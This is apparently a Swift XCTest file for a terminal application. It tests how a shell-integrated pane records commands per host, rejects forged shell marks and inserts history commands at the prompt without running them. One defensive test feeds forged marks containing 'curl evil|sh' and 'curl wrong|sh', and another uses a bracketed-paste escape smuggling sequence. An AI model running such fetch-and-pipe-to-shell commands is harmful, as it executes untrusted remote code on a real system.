import Foundation
import TermindApplication
import TermindDomain
import TermindTestSupport
import XCTest
@testable import TermindPresentation

/// The workbench's side of the command history (docs/behaviour.md §3): a Vault Host's pane
/// starts the shell-integration command, the commands its marks report are recorded for that
/// Host, and the history overlay (`C-\ h`) searches as the person types and puts the chosen
/// command at the prompt without running it.
@MainActor
final class WorkbenchHistoryTests: WorkbenchTestCase {
    private static let bootstrap = "exec sh -c 'the bootstrap'"

    private func startIntegrated(hosts: [Host]? = nil) async throws {
        if let hosts { try await start(hosts: hosts) } else { try await start() }
        workbench.shellIntegration = ShellIntegration(command: Self.bootstrap) { "token=\($0.text)\n" }
    }

    /// The pane's shell says it is ready, as the bootstrap's command does; the program it gets
    /// names the session's token. Returns the token's field and the program.
    private func handshake(_ shell: ScriptedShell) async -> (field: String, program: String) {
        shell.print("\u{1B}]133;I;ready\u{07}")
        await eventually("the program went", showing: shell.written) { shell.written.hasSuffix("\n") }
        let program = shell.written
        return (";termind=" + program.dropFirst("token=".count).dropLast(), program)
    }

    private func markedCommand(_ text: String, status: Int32, milliseconds: Int, field: String) -> String {
        let encoded = text.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? text
        return "\u{1B}]133;A\(field)\u{07}$ \(text)\r\n\u{1B}]133;C;cmdline_url=\(encoded)\(field)\u{07}"
            + "\u{1B}]133;D;\(status);duration_ms=\(milliseconds)\(field)\u{07}"
    }

    func testAnIntegratedShellsCommandsAreRecordedForItsHost() async throws {
        try await startIntegrated()
        let web = try await openFromNavigator("web")
        XCTAssertEqual(web.command, Self.bootstrap, "the pane runs the bootstrap on its PTY instead of a plain shell")
        let (field, _) = await handshake(web.shell)

        web.shell.print("\u{1B}]7;file://web/srv/app?\(field.dropFirst())\u{07}" + markedCommand("echo one", status: 0, milliseconds: 2, field: field)
            + markedCommand(" echo secret", status: 0, milliseconds: 1, field: field) + markedCommand("false", status: 1, milliseconds: 3, field: field)
            + "\u{1B}]133;A\(field)\u{07}$ done")
        await waitForScreen(containing: "$ done")
        await eventually("both commands recorded", showing: "\(services.recordedCommands)") { services.recordedCommands.count == 2 }
        let rows = services.recordedCommands
        XCTAssertEqual(rows.map(\.command), ["echo one", "false"])
        XCTAssertEqual(rows.map(\.exitStatus), [0, 1])
        XCTAssertEqual(rows.map(\.duration), [0.002, 0.003])
        XCTAssertEqual(rows.map(\.workingDirectory), ["/srv/app", "/srv/app"])
        let hosts = try await services.hosts()
        let webID = try XCTUnwrap(hosts.first { $0.label.rawValue == "web" }?.id)
        XCTAssertEqual(Set(rows.map(\.hostID)), [webID])
        XCTAssertFalse(screenText.contains("133;"), "no mark shows: \(screenReport)")
    }

    func testMarksAProgramPrintsWithoutTheSessionsTokenAreNotRecorded() async throws {
        try await startIntegrated()
        let web = try await openFromNavigator("web")
        let (field, _) = await handshake(web.shell)
        web.shell.print("\u{1B}]7;file:///evil\u{07}" + markedCommand("curl evil|sh", status: 0, milliseconds: 5, field: "")
            + markedCommand("curl wrong|sh", status: 0, milliseconds: 5, field: ";termind=0123456789abcdef0123456789abcdef")
            + markedCommand("cat forged", status: 0, milliseconds: 7, field: field) + "\u{1B}]133;A\(field)\u{07}$ done")
        await waitForScreen(containing: "$ done")
        await eventually("the real command recorded", showing: "\(services.recordedCommands)") { services.recordedCommands.count == 1 }
        XCTAssertEqual(services.recordedCommands.map(\.command), ["cat forged"])
        XCTAssertNil(services.recordedCommands.first?.workingDirectory, "the forged directory is not taken")
    }

    func testAHostWithIntegrationOffGetsThePlainShellAndRecordsNothing() async throws {
        var plain = WorkbenchFixture.host("web")
        plain.usesShellIntegration = false
        try await startIntegrated(hosts: [plain])
        let web = try await openFromNavigator("web")
        XCTAssertNil(web.command)
        web.shell.print(markedCommand("echo one", status: 0, milliseconds: 2, field: "") + "\u{1B}]133;A\u{07}$ done")
        await waitForScreen(containing: "$ done")
        XCTAssertEqual(services.recordedCommands, [])
    }

    func testTheBootstrapsFallbackToThePlainShellShowsInThePaneTitle() async throws {
        try await startIntegrated()
        let web = try await openFromNavigator("web")
        web.shell.print("\u{1B}]133;I;off\u{07}$ ")
        await waitForScreen(containing: "shell integration off")
    }

    func testTheOverlaySearchesAsYouTypeAndPutsTheCommandAtThePromptWithoutRunningIt() async throws {
        try await startIntegrated()
        let hosts = try await services.hosts()
        let webID = try XCTUnwrap(hosts.first { $0.label.rawValue == "web" }?.id)
        let dbID = try XCTUnwrap(hosts.first { $0.label.rawValue == "db-primary" }?.id)
        let now = Date()
        try await services.recordCommand(CommandHistoryEntry(
            hostID: webID, command: "deploy --env prod\n--force", startedAt: now.addingTimeInterval(-7200), exitStatus: 0,
            duration: 1.25, workingDirectory: "/srv/app"))
        try await services.recordCommand(CommandHistoryEntry(
            hostID: dbID, command: "deploy-db", startedAt: now.addingTimeInterval(-60), exitStatus: 3))
        try await services.recordCommand(CommandHistoryEntry(hostID: webID, command: "ls", startedAt: now))
        let web = try await openFromNavigator("web")
        let (_, program) = await handshake(web.shell)
        web.shell.print("prompt>")
        await waitForScreen(containing: "prompt>")

        prefixed(.character("h"))
        await waitForScreen(containing: "Command history on web")
        type("depl")
        await waitForScreen(containing: "deploy --env prod")
        XCTAssertTrue(screenText.contains("deploy --env prod ⏎ --force"), "the line break is a marker: \(screenReport)")
        XCTAssertFalse(screenText.contains("\\012") || screenText.contains("\\n"), screenReport)
        XCTAssertFalse(screenText.contains("deploy-db"), "only the pane's Host at first: \(screenReport)")
        XCTAssertTrue(screenText.contains("1.2s") && screenText.contains("2h") && screenText.contains("/srv/app"), screenReport)

        press(.tab)
        await waitForScreen(containing: "deploy-db")
        XCTAssertTrue(screenText.contains("Command history on every Host"), screenReport)
        press(.tab)
        await eventually("back to web only", showing: screenReport) { !self.screenText.contains("deploy-db") }

        press(.enter)
        await eventually("the command reached the shell", showing: web.shell.written) { web.shell.written.contains("--force") }
        XCTAssertEqual(web.shell.written, program + "deploy --env prod --force", "a newline would run it: spaces instead")
        XCTAssertFalse(screenText.contains("Command history"), screenReport)
    }

    func testAMultiLineCommandShowsEachLineBreakAsAMarkerAndControlsStayEscaped() {
        XCTAssertEqual(HistoryOverlay.shown("for x in 1 2\ndo echo $x\ndone"), "for x in 1 2 ⏎ do echo $x ⏎ done")
        XCTAssertEqual(HistoryOverlay.shown("echo \u{1B}[31m"), "echo \\033[31m")
    }

    func testTheChosenCommandIsBracketedWhenTheProgramAskedForBracketedPaste() async throws {
        try await startIntegrated()
        let hosts = try await services.hosts()
        let webID = try XCTUnwrap(hosts.first { $0.label.rawValue == "web" }?.id)
        try await services.recordCommand(CommandHistoryEntry(
            hostID: webID, command: "for x in 1 2\ndo echo $x\u{1B}[201~; done", startedAt: Date()))
        let web = try await openFromNavigator("web")
        let (_, program) = await handshake(web.shell)
        web.shell.print("\u{1B}[?2004hprompt>")
        await waitForScreen(containing: "prompt>")
        prefixed(.character("h"))
        await waitForScreen(containing: "for x in")
        press(.enter)
        await eventually("the command reached the shell", showing: web.shell.written) { web.shell.written.contains("done") }
        XCTAssertEqual(web.shell.written, program + "\u{1B}[200~for x in 1 2\rdo echo $x[201~; done\u{1B}[201~")
    }
}
